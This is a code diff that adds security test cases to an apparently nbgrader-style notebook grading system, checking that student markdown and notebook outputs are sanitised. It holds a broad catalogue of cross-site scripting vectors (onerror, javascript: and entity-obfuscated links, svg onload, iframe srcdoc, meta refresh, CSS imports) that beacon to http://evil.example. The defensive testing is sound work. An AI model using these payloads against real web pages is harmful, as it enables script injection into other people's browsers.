@@ -109,6 +109,71 @@ print("ENV", sorted(k for k in os.environ if "NBGRADER" in k or "GRAD" in k.uppe
 """
 
 
+# Student markup that would run in a TA's or student's browser if it were rendered as is.
+# Every payload records itself in window.__pwned and requests /pwned/<what> on the page's own
+# server and http://evil.example/<what> elsewhere: the browser test watches for all three.
+def _js(what: str) -> str:
+    return (
+        f"(window.__pwned=(window.__pwned||[])).push('{what}');"
+        f"fetch('/pwned/{what}');fetch('http://evil.example/{what}')"
+    )
+
+
+def hostile_markup(prefix: str) -> str:
+    """HTML with every kind of live content a markdown cell or an HTML output can carry."""
+    return "\n".join(
+        [
+            f'<img src=x onerror="{_js(prefix + "-img-onerror")}">',
+            f"<script>{_js(prefix + '-script')}</script>",
+            f'<a id="{prefix}-js-link" href="javascript:{_js(prefix + "-js-link")}">click</a>',
+            f'<a href="jav&#x61;script:{_js(prefix + "-entity-link")}">click</a>',
+            f'<svg onload="{_js(prefix + "-svg-onload")}"><script>{_js(prefix + "-svg")}</script>'
+            "</svg>",
+            f'<iframe srcdoc="<script>{_js(prefix + "-srcdoc")}</script>"></iframe>',
+            f'<iframe src="javascript:{_js(prefix + "-iframe")}"></iframe>',
+            f'<object data="http://evil.example/{prefix}-object"></object>',
+            f'<embed src="http://evil.example/{prefix}-embed">',
+            f'<details open ontoggle="{_js(prefix + "-ontoggle")}"><summary>x</summary></details>',
+            f'<div style="background:url(http://evil.example/{prefix}-css)">styled</div>',
+            f"<style>@import url(http://evil.example/{prefix}-import.css);</style>",
+            f'<link rel="stylesheet" href="http://evil.example/{prefix}-link.css">',
+            f'<meta http-equiv="refresh" content="0;url=http://evil.example/{prefix}-refresh">',
+            f'<form action="http://evil.example/{prefix}-form"><button>go</button></form>',
+            f'<img src="http://evil.example/{prefix}-img.png">',
+        ]
+    )
+
+
+HOSTILE_MARKDOWN = (
+    "My answer, with math that must still render: $h_t = \\tanh(W h_{{t-1}} + U x_t)$.\n\n"
+    "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+    "[md link](javascript:{md_link}) ![md image](http://evil.example/{prefix}-md-image.png)\n\n"
+    "$\\href{{javascript:{mathjax}}}{{math link}}$\n\n"
+    "{html}\n"
+)
+
+
+def hostile_markdown(prefix: str) -> str:
+    return HOSTILE_MARKDOWN.format(
+        prefix=prefix,
+        md_link=_js(prefix + "-md-link"),
+        mathjax=_js(prefix + "-mathjax-href"),
+        html=hostile_markup(prefix),
+    )
+
+
+HOSTILE_OUTPUTS = """
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+markup = {markup!r}
+display(HTML(markup))
+display(Markdown(markup))
+display(Javascript({script!r}))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + {svg!r} + '"></svg>'))
+display({{"text/html": markup, "image/png": 'x" onerror="' + {png!r} + '"',
+         "text/plain": "plain"}}, raw=True)
+"""
+
+
 def cases(source, release, secret_paths: list[str]) -> list[Case]:
     """Every attack, and the honest submissions, for the assignment of ``source``."""
     full, visible = _points(source), _points(source, hidden=False)
@@ -250,6 +315,21 @@ def cases(source, release, secret_paths: list[str]) -> list[Case]:
         "graded",
         "ImportError: the checks are not in the sandbox",
     )
+
+    # markup that would run in the TA's formgrader or the feedback page
+    markdown = copy.deepcopy(good)
+    for cell in markdown.cells:
+        if fmt.cell_kind(cell) == "manual":
+            cell.source += "\n\n" + hostile_markdown("answer")
+    markdown.cells.append(nbformat.v4.new_markdown_cell(hostile_markdown("free")))
+    add("hostile_markdown", markdown, full, "needs manual grading", "sanitised, not run")
+    outputs = HOSTILE_OUTPUTS.format(
+        markup=hostile_markup("output"),
+        script=_js("output-javascript"),
+        svg=_js("output-svg"),
+        png=_js("output-png"),
+    )
+    add("hostile_outputs", _add_cell(good, outputs), full, "needs manual grading", "")
 
     # bad input
     add("invalid_json", b'{"cells": [', None, "invalid notebook", "")
